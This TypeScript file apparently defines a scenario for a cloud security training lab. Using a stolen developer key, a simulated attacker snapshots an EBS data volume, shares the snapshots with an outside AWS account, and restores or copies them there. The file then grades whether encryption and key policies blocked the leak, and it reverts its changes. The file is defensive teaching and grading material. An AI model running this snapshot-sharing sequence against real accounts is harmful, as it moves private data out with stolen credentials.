// With a developer's stolen key, the attacker snapshots the web server's data volume and shares it
// (and every snapshot the account has) with an account of their own, then restores and copies it there.
// Blocked when the outside account never gets a usable volume or copy of the data: the snapshot is
// encrypted with a customer managed key whose policy does not let other accounts use it (or with the
// AWS managed key aws/ebs, whose snapshots EC2 refuses to share).
import {
  EC2Client, CreateSnapshotCommand, ModifySnapshotAttributeCommand, DescribeSnapshotsCommand, CreateVolumeCommand,
  CopySnapshotCommand, DeleteSnapshotCommand, DeleteVolumeCommand,
} from '@aws-sdk/client-ec2';
import { KMSClient, CreateKeyCommand } from '@aws-sdk/client-kms';
import type { AttackStep, Scenario, ScenarioResult } from '../src/engine/types.ts';
import type { LabSession } from '../src/engine/session.ts';
import type { AwsCredentials } from '../src/cloud/labcloud.ts';
import { hostEnv } from '../labs/host/company.ts';
import { attemptEbs, dataTargets, developerKey, encryptionOf, rogueIp } from './lib/host-cloud.ts';

interface Source { snapshotId: string; what: string; encrypted: boolean; keyId?: string; original: boolean; ofDataVolume?: string }
interface State {
  ip: string;
  creds: AwsCredentials;
  outside: { accountId: string; creds: AwsCredentials; keyArn: string };
  /** Snapshots the attacker made in the account (deleted by revert). */
  made: string[];
  /** Snapshots shared with the outside account (unshared by revert). */
  shared: string[];
  outsideVolumes: string[];
  outsideSnapshots: string[];
  /** Each path the attacker took: how it ended. */
  paths: { source: Source; leaked: boolean; why: string }[];
  start: number;
}

const OUTSIDE_ACCOUNT_KEY = 'hostOutsideAccount';

export const snapshotSharedOutsideScenario: Scenario = {
  id: 'snapshot-shared-outside',
  title: 'The bookings data shared with an outside account as an EBS snapshot',
  description: "With dev-chris's stolen key, from an outside address: snapshot the web server's data volume, share it and every snapshot of the account with an AWS account of the attacker's, and restore or copy them there.",
  techniques: ['T1078.004', 'T1578.001', 'T1537'],
  detections: [
    'GuardDuty: Exfiltration:IAMUser/AnomalousBehavior',
    'GuardDuty: UnauthorizedAccess:IAMUser/MaliciousIPCaller',
    'Sigma: AWS Snapshot Backup Exfiltration',
  ],
  points: { blocked: 10 },
  tasks: { blocked: 'data' },
  async prepare(s: LabSession): Promise<State> {
    const creds0 = developerKey(s);
    if (!creds0) throw new Error('no key of dev-chris to steal: the scenario needs his access key (the developers\' work depends on it)');
    const ip = rogueIp(s);
    // The attacker's own account, outside the organisation: its id stays with the grader.
    const root = s.cloud.createAccount();
    const creds = { accessKeyId: root.accessKeyId, secretAccessKey: root.secretAccessKey };
    s.hidden[OUTSIDE_ACCOUNT_KEY] = root.accountId;
    const keyArn = (await s.client(KMSClient, { credentials: creds, sourceIp: ip }).send(new CreateKeyCommand({ Description: 'mine' }))).KeyMetadata!.Arn!;
    return {
      ip, creds: creds0, outside: { accountId: root.accountId, creds, keyArn },
      made: [], shared: [], outsideVolumes: [], outsideSnapshots: [], paths: [], start: s.now(),
    };
  },
  async inject(s, state) {
    const st = state as State;
    const steps: AttackStep[] = [];
    st.start = s.now();
    const env = hostEnv(s.env);
    const ec2 = s.client(EC2Client, { credentials: st.creds, sourceIp: st.ip });
    const out = s.client(EC2Client, { credentials: st.outside.creds, sourceIp: st.ip });
    const targets = await dataTargets(s);

    const look = await attemptEbs(s, 'list the account\'s snapshots (DescribeSnapshots OwnerIds self)', () => ec2.send(new DescribeSnapshotsCommand({ OwnerIds: ['self'] })));
    steps.push(look.step);

    const sources: Source[] = [];
    const vol = targets.dataVolume;
    if (vol?.VolumeId) {
      const made = await attemptEbs(s, `CreateSnapshot of the web server's data volume ${vol.VolumeId} (${encryptionOf(vol)})`,
        () => ec2.send(new CreateSnapshotCommand({ VolumeId: vol.VolumeId, Description: 'backup before migration' })));
      steps.push(made.step);
      if (made.value?.SnapshotId) {
        st.made.push(made.value.SnapshotId);
        sources.push({ snapshotId: made.value.SnapshotId, what: `a snapshot of the data volume ${vol.VolumeId}`, encrypted: !!made.value.Encrypted, keyId: made.value.KmsKeyId, original: false, ofDataVolume: vol.VolumeId });
      }
    }
    for (const snap of targets.snapshots) {
      if (!snap.SnapshotId || st.made.includes(snap.SnapshotId)) continue;
      const original = snap.SnapshotId === env.data.snapshotId;
      sources.push({ snapshotId: snap.SnapshotId, what: `the snapshot ${snap.SnapshotId}${original ? " (the old server's bookings data)" : ''}`, encrypted: !!snap.Encrypted, keyId: snap.KmsKeyId, original });
    }

    for (const src of sources) {
      const id = src.snapshotId;
      const share = await attemptEbs(s, `share ${id} (${encryptionOf({ Encrypted: src.encrypted, KmsKeyId: src.keyId })}) with the attacker's account (ModifySnapshotAttribute createVolumePermission add)`,
        () => ec2.send(new ModifySnapshotAttributeCommand({ SnapshotId: id, Attribute: 'createVolumePermission', CreateVolumePermission: { Add: [{ UserId: st.outside.accountId }] } })));
      steps.push(share.step);
      if (share.step.errorCode) {
        st.paths.push({ source: src, leaked: false, why: `sharing ${id} was refused (${share.step.errorCode}${share.step.errorCode === 'InvalidParameter' ? ': encrypted with the AWS managed key aws/ebs, which cannot be shared' : ''})` });
        continue;
      }
      st.shared.push(id);
      const seen = await attemptEbs(s, `outside account: DescribeSnapshots ${id}`, () => out.send(new DescribeSnapshotsCommand({ SnapshotIds: [id] })));
      steps.push(seen.step);
      const restored = await attemptEbs(s, `outside account: CreateVolume from ${id}`,
        () => out.send(new CreateVolumeCommand({ AvailabilityZone: env.subnet.availabilityZone, SnapshotId: id })));
      steps.push(restored.step);
      if (restored.value?.VolumeId) st.outsideVolumes.push(restored.value.VolumeId);
      const copied = await attemptEbs(s, `outside account: CopySnapshot of ${id} re-encrypted with the attacker's own key`,
        () => out.send(new CopySnapshotCommand({ SourceSnapshotId: id, SourceRegion: s.cloud.region, Encrypted: true, KmsKeyId: st.outside.keyArn, Description: 'bookings' })));
      steps.push(copied.step);
      if (copied.value?.SnapshotId) st.outsideSnapshots.push(copied.value.SnapshotId);
      const got = [restored.value?.VolumeId && `restored as ${restored.value.VolumeId}`, copied.value?.SnapshotId && `copied as ${copied.value.SnapshotId}`].filter(Boolean).join(' and ');
      if (got) {
        const why = !src.encrypted
          ? (src.original
            ? `the unencrypted snapshot ${id} was still there: shared and ${got} in the attacker's account — once the data is on your encrypted volume, delete it (task data)`
            : src.ofDataVolume
              ? `the data volume ${src.ofDataVolume} is not encrypted: its snapshot ${id} was shared and ${got} in the attacker's account — put the data on a volume encrypted with your key (task data)`
              : `the snapshot ${id} is not encrypted: shared and ${got} in the attacker's account — delete it or replace it with an encrypted copy (task data)`)
          : `${src.what} is encrypted with ${src.keyId}, yet the attacker's account could use that key: shared and ${got} — the key policy must name only your own principals, no other account and no "*" (task key)`;
        st.paths.push({ source: src, leaked: true, why });
      } else {
        const codes = [...new Set([restored.step.errorCode, copied.step.errorCode].filter(Boolean))].join(', ');
        st.paths.push({ source: src, leaked: false, why: `${id} was shared, but the attacker's account could not use its key ${src.keyId ?? ''} to restore or copy it (${codes})` });
      }
    }
    return steps;
  },
  async observe(s, steps, state): Promise<ScenarioResult> {
    const st = state as State;
    const leaks = st.paths.filter((p) => p.leaked);
    const blocked = leaks.length === 0;
    const trail = (account: string) => s.gateway.service('cloudtrail').trail.all(account)
      .filter((e) => e.sourceIPAddress === st.ip && Date.parse(e.eventTime) >= st.start - 1000);
    const ours = trail(s.accountId);
    const refused = [...ours, ...trail(st.outside.accountId)].filter((e) => e.errorCode);
    const evidence = [
      ...leaks.map((p) => `leaked: ${p.why}`),
      ...ours.filter((e) => e.eventName === 'ModifySnapshotAttribute' && !e.errorCode).map((e) => `${e.eventTime} ec2:ModifySnapshotAttribute from ${e.sourceIPAddress} by ${e.userIdentity.arn ?? e.userIdentity.type}`),
      ...refused.slice(0, 10).map((e) => `${e.eventTime} ${e.eventSource.split('.')[0]}:${e.eventName} from ${e.sourceIPAddress}: ${e.errorCode}`),
    ];
    const tried = st.paths.length;
    const feedback = blocked
      ? (tried
        ? `no copy of the bookings data reached the attacker's account (${tried} snapshot${tried > 1 ? 's' : ''} tried): ${st.paths.map((p) => p.why).join('; ')}`
        : 'no copy of the bookings data reached the attacker\'s account: there was no data volume or snapshot to take')
      : `the bookings data left the account: ${leaks.map((p) => p.why).join('; ')}`;
    return { blocked, detected: refused.length > 0, steps, evidence, feedback };
  },
  async revert(s, state) {
    const st = state as State | undefined;
    if (!st) return;
    const ec2 = s.client(EC2Client);
    const out = s.client(EC2Client, { credentials: st.outside.creds });
    for (const id of st.outsideVolumes) await out.send(new DeleteVolumeCommand({ VolumeId: id })).catch(() => undefined);
    for (const id of st.outsideSnapshots) await out.send(new DeleteSnapshotCommand({ SnapshotId: id })).catch(() => undefined);
    for (const id of st.shared) {
      if (st.made.includes(id)) continue;
      await ec2.send(new ModifySnapshotAttributeCommand({ SnapshotId: id, Attribute: 'createVolumePermission', CreateVolumePermission: { Remove: [{ UserId: st.outside.accountId }] } })).catch(() => undefined);
    }
    for (const id of st.made) await ec2.send(new DeleteSnapshotCommand({ SnapshotId: id })).catch(() => undefined);
  },
};
